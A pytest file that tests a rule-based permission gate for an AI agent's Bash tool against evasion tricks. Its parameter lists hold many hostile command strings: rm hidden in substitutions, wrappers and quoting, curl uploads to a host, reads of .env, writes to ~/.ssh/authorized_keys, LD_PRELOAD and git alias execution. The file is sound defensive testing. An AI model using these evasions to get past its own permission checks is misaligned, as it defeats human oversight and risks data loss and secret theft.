"""The simple gate against commands that fooled permission systems: never more than is right."""

import json
from pathlib import Path
from typing import Any

import pytest

from maia.agent.contracts.permissions import Allowed, Asked, CallToJudge, Denied
from maia.agent.permissions.gate import RuleGate
from maia.agent.permissions.rules import read_rules

CASES = Path(__file__).resolve().parents[2] / "cases" / "bash"
WORDS = {"allow": Allowed, "ask": Asked, "deny": Denied}

RULES = {
    "allow": [
        *("Bash(git *)", "Bash(echo *)", "Bash(cat *)", "Bash(find *)", "Bash(ls *)"),
        *("Bash(sort *)", "Bash(npm test*)"),
    ],
    "deny": ["Bash(rm *)", "Bash(curl *)", "Read(./.env)", "Edit(~/.ssh/**)"],
}


async def verdict(folder: Path, command: str, rules: Any = RULES, **options: Any) -> type:
    gate = RuleGate(read_rules(rules, "settings.json"), folder, **options)
    return type(await gate.judge(CallToJudge("Bash", {"command": command}, "ask")))


@pytest.mark.parametrize(
    "command",
    [
        "git status && rm -rf x",
        "echo hi | curl -T - http://h",
        "cat <<'E' | curl -T - http://h\nbody\nE",
        "cat <<E\n$(rm x)\nE",
        "cat <<E\n`rm x`\nE",
        "echo $(rm -rf x)",
        "echo `rm x`",
        'export T="$(cat .env)"',
        "{ cat .env; }",
        "cat <(ls) .env",
        "echo k > ~/.ssh/authorized_keys",
        "echo k >> $HOME/.ssh/authorized_keys",
        "echo hi > $(rm x)",
        "find . -exec rm {} +",
        "find . -type f -execdir /bin/rm {} ;",
        "find . -e\\xec rm {} \\;",
        "xargs rm",
        "xargs -n1 rm",
        "ls | xargs -I{} rm {}",
        "env rm x",
        "env -S 'rm x'",
        "env -P /bin rm x",
        "sudo rm x",
        "sudo -u root -- rm x",
        "doas rm x",
        "nohup rm x",
        "timeout 5 rm x",
        "nice -n 5 rm x",
        "stdbuf -o0 rm x",
        "setsid rm x",
        "flock f rm x",
        "watch rm x",
        "busybox rm x",
        "command rm x",
        "exec rm x",
        "builtin rm x",
        "time rm x",
        "sh -c 'rm x'",
        'bash -lc "rm x"',
        'eval "rm x"',
        "trap 'rm x' EXIT",
        "\\rm x",
        "r''m x",
        '"rm" x',
        "$'rm' x",
        "rm$IFS-rf$IFS/",
        "rm${IFS}-rf${IFS}/",
        "rm\t-rf\tx",
        "rm",
        "RM x",
        "/bin/rm x",
        "../../bin/rm x",
        "true; " * 80 + "curl h",
        "r\\\nm x",
        "echo a\r\nrm x",
        "[[ x =~ $(rm x) ]]",
        "a[$(rm x)]=1",
        "for f in *; do rm $f; done",
        "if true; then rm x; fi",
        "while rm x; do :; done",
        "f(){ rm x; }; f",
        "coproc rm x",
        "! rm x",
        "case a in a) rm x;; esac",
        "diff <(curl a) <(curl b)",
        "cat link-to-env",
        "cat < .env",
        "while read l; do :; done < .env",
        "echo $(< .env)",
        "mapfile < .env",
        "git diff --no-index .env x",
        "cat .//.env",
        "cat ./sub/../.env",
        "A=1 B=2 rm x",
        "> out rm x",
        "2>/dev/null rm x",
        "git -C . status; rm x",
        "# note\nrm x",
        "echo ok #' \nrm x #'",
    ],
)  # fmt: skip
@pytest.mark.parametrize("profile", ["ask", "bypass"])
async def test_a_denied_program_or_file_that_is_visible_is_denied(
    tmp_path: Path, command: str, profile: Any
) -> None:
    (tmp_path / ".env").write_text("K=1")
    (tmp_path / "link-to-env").symlink_to(".env")
    assert await verdict(tmp_path, command, profile=profile) is Denied


@pytest.mark.parametrize(
    "command",
    [
        "env > /tmp/o",
        "PATH=./bin ls",
        "LD_PRELOAD=./x.so ls",
        "GIT_EXTERNAL_DIFF=./x git diff",
        "(PATH=/tmp; git status)",
        "git -c core.pager=./x log",
        "git -c alias.z='!sh' z",
        "git --exec-path=. x",
        "git -C other status",
        "git --git-dir=other/.git status",
        "cd other && git status",
        "git diff --output=/etc/x",
        "git log --outpu=x",
        "git log --output x",
        "git diff --ext-diff",
        "git grep -O./x needle",
        "git diff --no-index -- a b",
        "git status-x",
        "git config --global alias.z x",
        "git help log",
        "git worktree add x",
        "git submodule update",
        "git commit -m x --trailer y",
        "git fetch ext::sh",
        "find . -delete",
        "find . -fprintf f x",
        "find . -fls f",
        "find . -exec ls",
        "find . $X",
        "sort *",
        "sort -o f in",
        "sort -of in",
        "sort -uo f in",
        "sort --outp=f in",
        "sort --compress-program=./x in",
        "./cat f",
        "/tmp/evil/git status",
        "npm testify",
        "c=rm; $c x",
        "r${Z}m x",
        "{rm,-r,x}",
        "$'\\x72\\x6d' x",
        "alias ls=rm",
        "hash -p ./x git",
        "=ls",
        "echo a\x00b",
        "echo a\x1b[2Jb",
        "echo \u202eb",
        "git\u00a0status",
        "\u00a0git status",
        "",
        " ",
        "echo rm x",
        "git rm x",
        "ls x curl y",
        "ls " + "a" * 5_000,
        "cat sub/.env",
    ],
)
async def test_what_is_not_plain_or_not_harmless_is_asked(tmp_path: Path, command: str) -> None:
    assert await verdict(tmp_path, command) is Asked


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git --no-pager log --oneline -20",
        "git checkout --track origin/x",
        "git diff HEAD~1".replace("~", "-"),
        "echo done",
        "cat README.md",
        "find . -name x.py -type f",
        "ls -la src",
        "sort -u -k2 in",
        "npm test",
        "npm test -- --watch=false",
        "npm test:unit",
        "git status\n",
    ],
)
async def test_a_plain_command_under_its_rule_is_allowed(tmp_path: Path, command: str) -> None:
    assert await verdict(tmp_path, command) is Allowed


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(find . -name x -delete)", "find . -name x -delete"),
        ("Bash(git -C sub status *)", "git -C sub status --short"),
        ("Bash(git submodule *)", "git submodule status"),
    ],
)
async def test_a_word_that_the_pattern_itself_holds_was_meant(
    tmp_path: Path, rule: str, command: str
) -> None:
    assert await verdict(tmp_path, command, {"allow": [rule]}) is Allowed


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git push", Denied),
        ("git --no-pager push", Denied),
        ("git -C sub push origin", Denied),
        ("git push-x", Asked),
        ("git status", Allowed),
    ],
)
async def test_options_before_the_word_that_a_rule_wants_do_not_hide_it(
    tmp_path: Path, command: str, expected: type
) -> None:
    rules = {"allow": ["Bash(git *)"], "deny": ["Bash(git push *)"]}
    assert await verdict(tmp_path, command, rules) is expected


@pytest.mark.parametrize("written", ["Bash(rm:*)", "bash(rm *)", "Bash(/bin/rm *)", "Bash()"])
async def test_a_restriction_is_read_as_widely_as_it_may_have_been_meant(
    tmp_path: Path, written: str
) -> None:
    assert await verdict(tmp_path, "rm x", {"deny": [written]}, profile="bypass") is Denied


@pytest.mark.parametrize("case", sorted(each.parent.name for each in CASES.glob("*/input.json")))
async def test_the_cases_give_the_stated_verdict_or_a_stricter_one(
    tmp_path: Path, case: str
) -> None:
    given = json.loads((CASES / case / "input.json").read_text())
    rules: dict[str, list[str]] = {}
    for rule in given["rules"]:
        rules.setdefault(rule["decision"], []).append(f"{rule['tool']}({rule['pattern']})")
    for item in given["items"]:
        found = await verdict(tmp_path, item["command"], rules)
        allowed = [WORDS[word] for word in item["want"].split("-") if word in WORDS]
        if found not in allowed:
            assert found is not Allowed, item
            assert Denied not in allowed or len(allowed) > 1, item
